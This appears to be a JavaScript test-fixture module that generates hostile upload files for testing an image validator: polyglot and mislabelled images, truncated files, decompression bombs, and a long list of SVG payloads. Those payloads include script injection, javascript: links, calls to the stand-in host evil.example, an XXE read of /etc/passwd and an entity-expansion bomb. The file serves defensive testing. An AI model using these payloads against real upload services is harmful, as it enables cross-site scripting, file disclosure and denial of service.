import { gzipSync } from "node:zlib";
import sharp from "sharp";
import { samplePictures } from "../../../tests/setup/pictures.mjs";

/** @typedef {import("../../../worker/domain/media/picture-purposes.ts").PicturePurposeName} Purpose */
/** `isAccepted` null: either, as long as what is stored is harmless. @typedef {{ name: string, purpose: Purpose, type: string, bytes: Uint8Array<ArrayBuffer>, isAccepted: boolean | null }} HostileFile */

const HTML = "<!doctype html><script>fetch('//evil.example')</script>";
const SVG_PARTS = [
  "<script>alert(1)</script>",
  "<script xlink:href='https://evil.example/x.js'/>",
  "<path d='M0 0' onclick='x()'/>",
  "<g onload='x()'/>",
  "<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='https://evil.example/'/></foreignObject>",
  "<a href='javascript:alert(1)'><path d='M0 0'/></a>",
  "<a href='java&#10;script:alert(1)'><path d='M0 0'/></a>",
  "<image href='https://evil.example/x.png'/>",
  "<image href='file:///etc/passwd'/>",
  "<use href='https://evil.example/x.svg#a'/>",
  "<use href='data:image/svg+xml,<svg/>#a'/>",
  "<style>@import url(https://evil.example/x.css);</style>",
  "<style>path{fill:url(https://evil.example/#a)}</style>",
  "<path style='fill:image-set(\"https://evil.example/x.png\" 1x)' d='M0 0'/>",
  "<path style=\"background:-webkit-image-set('https://evil.example/x.png' 1x)\" d='M0 0'/>",
  "<path style='cursor:src(\"https://evil.example/x\")' d='M0 0'/>",
  "<path fill='u\\72l(//evil.example)' d='M0 0'/>",
  "<set attributeName='href' to='javascript:alert(1)'/>",
  "<animate attributeName='xlink:href' values='javascript:alert(1)'/>",
  "<feImage href='https://evil.example/x.png'/>",
  "<x:script xmlns:x='http://www.w3.org/2000/svg'>alert(1)</x:script>",
  "<![CDATA[</svg><script>alert(1)</script>]]>",
];
const SVG_WHOLE = [
  "<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg'><text>&a;</text></svg>",
  `<!DOCTYPE svg [<!ENTITY a "${"x".repeat(100)}">${Array.from({ length: 20 }, (_, at) => `<!ENTITY a${at} "${`&a${at ? at - 1 : ""};`.repeat(10)}">`).join("")}]><svg xmlns='http://www.w3.org/2000/svg'><text>&a19;</text></svg>`,
  "<?xml-stylesheet href='https://evil.example/x.xsl'?><svg xmlns='http://www.w3.org/2000/svg'/>",
  `<svg xmlns='http://www.w3.org/2000/svg'>${"<g>".repeat(50_000)}`,
  "<html><svg/></html>",
];

/** Files that are not what they seem, too large inside, cut or damaged. @param {boolean} isShort @returns {Promise<HostileFile[]>} */
export async function hostileFiles(isShort) {
  const samples = await samplePictures();
  const text = (/** @type {string} */ content) => bytesOf(Buffer.from(content));
  const png = samples["image/png"] ?? Buffer.alloc(0);
  const jpeg = samples["image/jpeg"] ?? Buffer.alloc(0);
  /** @param {string} name @param {string} type @param {Uint8Array} bytes @param {boolean | null} [isAccepted] @param {Purpose} [purpose] @returns {HostileFile} */
  const file = (name, type, bytes, isAccepted = false, purpose = "car") => ({
    name,
    type,
    bytes: bytesOf(bytes),
    isAccepted,
    purpose,
  });
  const svg = (/** @type {string} */ content, /** @type {number} */ at) =>
    file(`SVG ${at}: ${content.slice(0, 60)}`, "image/svg+xml", text(content), null, "favicon");
  const rasters = Object.entries(samples).filter(([type]) => type !== "image/svg+xml" && type !== "image/x-icon");
  return [
    file("a photo", "image/jpeg", jpeg, true),
    file("HTML", "image/png", text(HTML)),
    file("HTML", "text/html", text(HTML)),
    file("SVG for a car", "image/svg+xml", text("<svg xmlns='http://www.w3.org/2000/svg'/>")),
    file("a GIF header before HTML", "image/gif", text(`GIF89a/*${HTML}*/=1;`)),
    file("PNG announced as JPEG", "image/jpeg", png),
    file("JPEG announced as PNG", "image/png", jpeg),
    file("HTML after a PNG", "image/png", Buffer.concat([png, Buffer.from(HTML)]), null),
    file("ZIP after a JPEG", "image/jpeg", Buffer.concat([jpeg, Buffer.from("PK\u0003\u0004")]), null),
    file("scripts in the comment of a JPEG", "image/jpeg", withComment(jpeg, HTML), null),
    file("no bytes", "image/png", new Uint8Array(0)),
    file("one byte", "image/png", new Uint8Array(1)),
    file("zeros", "image/jpeg", new Uint8Array(100_000)),
    file("gzip", "image/png", gzipSync(Buffer.alloc(10_000_000))),
    file("ZIP", "image/png", text("PK\u0003\u0004")),
    file("PNG of 60,000 × 60,000 px", "image/png", pngOfSize(png, 60_000, 60_000)),
    file("PNG of 2³¹ px", "image/png", pngOfSize(png, 2 ** 31 - 1, 1)),
    file("PNG of 0 px", "image/png", pngOfSize(png, 0, 0)),
    // Seconds of decoding and encoding each.
    ...(isShort
      ? []
      : [
          file(
            "PNG of one colour, 6,200 × 6,200 px",
            "image/png",
            await plain(6200).png({ compressionLevel: 9 }).toBuffer(),
            null,
          ),
          file(
            "AVIF of one colour, 6,300 × 6,300 px",
            "image/avif",
            await plain(6300).avif({ effort: 0 }).toBuffer(),
            null,
          ),
        ]),
    file(
      "WebP of 10,000 × 100 px",
      "image/webp",
      await sharp({ create: { width: 10_000, height: 100, channels: 3, background: "#888" } })
        .webp()
        .toBuffer(),
    ),
    ...rasters.flatMap(([type, bytes]) =>
      [0.02, 0.5, 0.95].map((share) =>
        file(`${share * 100} % of the file`, type, bytes.subarray(0, Math.floor(bytes.length * share)), null),
      ),
    ),
    ...rasters.map(([type, bytes]) => file("damaged in the middle", type, damaged(bytes), null)),
    ...[
      "image/jpg; charset=x",
      "IMAGE/PNG",
      "image/png\t",
      "image/png, text/html",
      "",
      "image",
      "application/octet-stream",
    ].map((type) => file("a PNG of an odd type", type, png, null)),
    ...SVG_PARTS.map((part, at) =>
      svg(
        `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">${part}</svg>`,
        at,
      ),
    ),
    ...SVG_WHOLE.map(svg),
  ];
}

/** @param {Uint8Array} bytes @returns {Uint8Array<ArrayBuffer>} */
function bytesOf(bytes) {
  return new Uint8Array(bytes);
}

/** @param {number} side px */
function plain(side) {
  return sharp({ create: { width: side, height: side, channels: 3, background: "#888" }, limitInputPixels: false });
}

/** The same file with other dimensions in its header. @param {Buffer} png @param {number} width @param {number} height */
function pngOfSize(png, width, height) {
  const changed = Buffer.from(png);
  changed.writeUInt32BE(width, 16);
  changed.writeUInt32BE(height, 20);
  return changed;
}

/** @param {Buffer} jpeg @param {string} comment */
function withComment(jpeg, comment) {
  const length = Buffer.alloc(2);
  length.writeUInt16BE(comment.length + 2);
  return Buffer.concat([
    jpeg.subarray(0, 2),
    Buffer.from([0xff, 0xfe]),
    length,
    Buffer.from(comment),
    jpeg.subarray(2),
  ]);
}

/** @param {Buffer} bytes */
function damaged(bytes) {
  const changed = Buffer.from(bytes);
  changed.fill(0xff, Math.floor(bytes.length / 2), Math.floor(bytes.length / 2) + 200);
  return changed;
}
